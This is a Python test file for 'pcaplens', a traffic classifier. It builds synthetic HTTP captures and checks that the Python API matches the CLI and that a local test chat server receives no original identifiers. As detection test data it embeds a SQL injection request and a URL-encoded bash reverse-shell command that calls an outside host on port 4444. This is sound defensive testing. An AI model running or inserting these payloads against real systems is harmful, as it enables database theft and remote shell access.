"""pcaplens.classify(): the CLI's classification pipeline from Python.

Parity with ``pcaplens classify --json`` (rules and a model), the option
keywords mapped like the CLI's flags, and a local chat-completions server
(tests/traffic/chat_server.py, started with sys.executable on 127.0.0.1) whose recorded request bodies must
hold no original address, MAC, e-mail address or secret of the capture.
"""

from __future__ import annotations

import json
import os
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import pcaplens

from conftest import REPO, _checksum, pcap, run_cli

# The chat-completions test server (also used by the live classify test).
CHAT_SERVER = REPO / "tests" / "traffic" / "chat_server.py"

KEY_HEX = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"
CLIENT_MAC = bytes.fromhex("02a1b2c3d4e5")
SERVER_MAC = bytes.fromhex("02f6e7d8c9ba")


def tcp_frame(src: bytes, sport: int, dst: bytes, dport: int, flags: int, seq: int, ack: int,
              payload: bytes = b"") -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 0x50, flags, 0xFFFF, 0, 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
    a, b = (CLIENT_MAC, SERVER_MAC) if dport == 80 else (SERVER_MAC, CLIENT_MAC)
    return b + a + b"\x08\x00" + ip + tcp


def conversation(client: bytes, cport: int, server: bytes, req: bytes, resp: bytes) -> list[bytes]:
    cs, ss = 1000, 5000
    return [
        tcp_frame(client, cport, server, 80, 0x02, cs - 1, 0),
        tcp_frame(server, 80, client, cport, 0x12, ss - 1, cs),
        tcp_frame(client, cport, server, 80, 0x18, cs, ss, req),
        tcp_frame(server, 80, client, cport, 0x18, ss, cs + len(req), resp),
        tcp_frame(client, cport, server, 80, 0x11, cs + len(req), ss + len(resp)),
        tcp_frame(server, 80, client, cport, 0x11, ss + len(resp), cs + len(req) + 1),
    ]


SQLI = (b"GET /items?id=1%20UNION%20SELECT%20password%20FROM%20users HTTP/1.1\r\n"
        b"Host: shop.corp-example.net\r\nCookie: session=Zx81kPq2LmN7vB4sT9\r\n\r\n")
SHELL = (b"GET /cgi-bin/run?c=bash%20-i%20%3E%26%20/dev/tcp/198.51.100.77/4444%200%3E%261 HTTP/1.1\r\n"
         b"Host: 203.0.113.9\r\nUser-Agent: curl/8.5.0\r\n\r\n")
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"


def plain(i: int) -> bytes:
    return (b"GET /index.html HTTP/1.1\r\nHost: www.corp-example.net\r\n"
            b"From: alice.smith@corp-example.net\r\n\r\n")


CLIENTS = [bytes([10, 20, 30, 40 + i]) for i in range(6)]
SERVER = bytes([192, 0, 2, 10])


def capture() -> bytes:
    frames: list[bytes] = []
    frames += conversation(CLIENTS[0], 40000, SERVER, SQLI, OK)
    frames += conversation(CLIENTS[1], 40001, SERVER, SHELL, OK)
    # Four flows with the same payload from different clients: one model call (cache).
    for i in range(2, 6):
        frames += conversation(CLIENTS[i], 40000 + i, SERVER, plain(i), OK)
    return pcap(frames)


ORIGINALS = [
    *(".".join(str(b) for b in c) for c in CLIENTS),
    "192.0.2.10",
    "198.51.100.77",
    "203.0.113.9",
    "corp-example.net",
    "alice.smith@corp-example.net",
    "Zx81kPq2LmN7vB4sT9",
    "02:a1:b2:c3:d4:e5",
    "02:f6:e7:d8:c9:ba",
    "curl/8.5.0",
]


@pytest.fixture
def cap(tmp_path: Path) -> Path:
    path = tmp_path / "web.pcap"
    path.write_bytes(capture())
    return path


@pytest.fixture
def keyfile(tmp_path: Path) -> Path:
    path = tmp_path / "key.hex"
    path.write_text(KEY_HEX)
    return path


@pytest.fixture
def no_endpoint(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for var in ("AZURE_OPENAI_ENDPOINT", "OPENAI_BASE_URL", "OPENAI_API_KEY"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.chdir(tmp_path)  # no .env


@pytest.fixture
def chat_server(request: pytest.FixtureRequest, tmp_path: Path,
                monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Path, str]]:
    log = tmp_path / "requests.jsonl"
    log.touch()
    delay = str(getattr(request, "param", 0))
    proc = subprocess.Popen(
        [sys.executable, str(CHAT_SERVER), str(log), delay],
        stdout=subprocess.PIPE,
    )
    try:
        assert proc.stdout is not None
        port = int(proc.stdout.readline())
        base = f"http://127.0.0.1:{port}/v1"
        monkeypatch.delenv("AZURE_OPENAI_ENDPOINT", raising=False)
        monkeypatch.delenv("OPENAI_API_KEY", raising=False)
        monkeypatch.setenv("OPENAI_BASE_URL", base)
        monkeypatch.setenv("OPENAI_MODEL", "test-model")
        monkeypatch.chdir(tmp_path)
        yield log, base
    finally:
        proc.kill()
        proc.wait()


def requests_of(log: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in log.read_text().splitlines() if line.strip()]


def cli_report(*args: str) -> dict[str, Any]:
    out = run_cli("classify", "--json", *args)
    assert out.returncode == 0, out.stderr.decode()
    result: dict[str, Any] = json.loads(out.stdout)
    return result


def by_category(report: dict[str, Any]) -> dict[int, str]:
    return {v["first_frame"]: v["category"] for v in report["verdicts"] if v["alert"]}


@pytest.mark.usefixtures("no_endpoint")
def test_rules_same_report_as_the_cli(cap: Path, keyfile: Path) -> None:
    py = pcaplens.classify(cap, key=KEY_HEX)
    assert py["stats"]["classifier"] == "rules"
    assert by_category(py) == {1: "sql_injection", 7: "reverse_shell"}
    assert py == cli_report(str(cap), "--key-file", str(keyfile))
    # Bytes in memory: the same verdicts and statistics.
    mem = pcaplens.classify(cap.read_bytes(), key=KEY_HEX)
    assert mem["files"] == ["<bytes>"]
    assert (mem["verdicts"], mem["stats"]) == (py["verdicts"], py["stats"])


@pytest.mark.usefixtures("no_endpoint")
def test_keywords_map_like_the_cli_flags(cap: Path, keyfile: Path) -> None:
    # SQL injection (0.85) falls below a 0.88 threshold; the reverse shell (0.9) stays.
    py = pcaplens.classify(cap, key=KEY_HEX, confidence_threshold=0.88, flow_max_bytes=512)
    assert by_category(py) == {7: "reverse_shell"}
    cli = cli_report(str(cap), "--key-file", str(keyfile), "--confidence-threshold", "0.88",
                     "--flow-max-bytes", "512")
    assert py == cli
    # The same keys nested, dotted, and through the CLI's --set / --config.
    assert pcaplens.classify(cap, key=KEY_HEX, classify={"confidence_threshold": 0.88,
                                                         "flow_max_bytes": 512}) == py
    assert pcaplens.classify(cap, key=KEY_HEX, **{"classify.confidence_threshold": 0.88,
                                                 "classify.flowMaxBytes": 512}) == py
    conf = cap.with_name("c.toml")
    conf.write_text("[classify]\nconfidence_threshold = 0.88\nflow_max_bytes = 512\n")
    assert cli_report(str(cap), "--key-file", str(keyfile), "--config", str(conf)) == cli
    assert py["stats"]["reassembly"]["flows_ready"] == 6


@pytest.mark.usefixtures("no_endpoint")
@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"workers": 0}, "classify.workers"),
        ({"confidence_threshold": 1.5}, "classify.confidence_threshold"),
        ({"flow_timeout": 0}, "classify.flow_timeout_secs"),
        ({"cache_size": -1}, "classify.cache_size"),
        ({"classify": {"no_such_key": 1}}, "classify.no_such_key"),
    ],
)
def test_bad_options_raise(cap: Path, kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(pcaplens.OptionsError, match=message.replace(".", r"\.")):
        pcaplens.classify(cap, **kwargs)


@pytest.mark.usefixtures("no_endpoint")
def test_bad_input(tmp_path: Path) -> None:
    with pytest.raises(pcaplens.CaptureFormatError):
        pcaplens.classify(b"this is not a capture at all, just text")
    with pytest.raises(OSError):
        pcaplens.classify(tmp_path / "missing.pcap")
    with pytest.raises(ValueError, match="key"):
        pcaplens.classify(capture(), key=b"short")
    cut = capture()[:-30]
    with pytest.warns(pcaplens.PartialCaptureWarning):
        report = pcaplens.classify(cut)
    assert report["stats"]["flows_classified"] >= 5


def test_model_requests_carry_no_original(chat_server: tuple[Path, str], cap: Path,
                                          keyfile: Path) -> None:
    log, base = chat_server
    py = pcaplens.classify(cap, key=KEY_HEX, workers=2)
    stats = py["stats"]
    assert stats["classifier"] == "model" and stats["model"] == "test-model"
    assert by_category(py) == {1: "sql_injection", 7: "reverse_shell"}
    # Six flows, three distinct prompts: the four plain ones share one answer.
    assert stats["model_requests"] == 3
    assert (stats["cache_misses"], stats["cache_hits"]) == (3, 3)
    reqs = requests_of(log)
    assert len(reqs) == 3
    assert all(r["path"] == "/v1/chat/completions" for r in reqs)
    bodies = "\n".join(r["body"] for r in reqs)
    # The attacks are visible to the model ...
    assert "UNION%20SELECT" in bodies and "/dev/tcp/" in bodies
    # ... no identifier is, in any spelling the body could carry it.
    for original in ORIGINALS:
        for form in {original, original.lower(), original.replace(":", "").lower(),
                     original.replace(":", "-")}:
            assert form not in bodies, f"{form!r} reached the model"
    # The CLI, against the same server with the same key, reports the same.
    cli = cli_report(str(cap), "--key-file", str(keyfile), "--workers", "2")
    assert cli == py
    assert len(requests_of(log)) == 6


@pytest.mark.parametrize("chat_server", [0.2], indirect=True)
def test_the_gil_is_released_while_classifying(chat_server: tuple[Path, str], cap: Path) -> None:
    ticks = 0
    done = threading.Event()

    def count() -> None:
        nonlocal ticks
        while not done.is_set():
            ticks += 1
            time.sleep(0.001)

    t = threading.Thread(target=count)
    t.start()
    start = time.monotonic()
    try:
        # One worker, no cache: three requests one after the other.
        pcaplens.classify(cap, key=KEY_HEX, workers=1, cache_size=0)
    finally:
        done.set()
        t.join()
    elapsed = time.monotonic() - start
    assert elapsed >= 0.6  # three answers, 0.2 s each
    assert ticks > 100, f"only {ticks} ticks in {elapsed:.2f}s: the GIL was held"
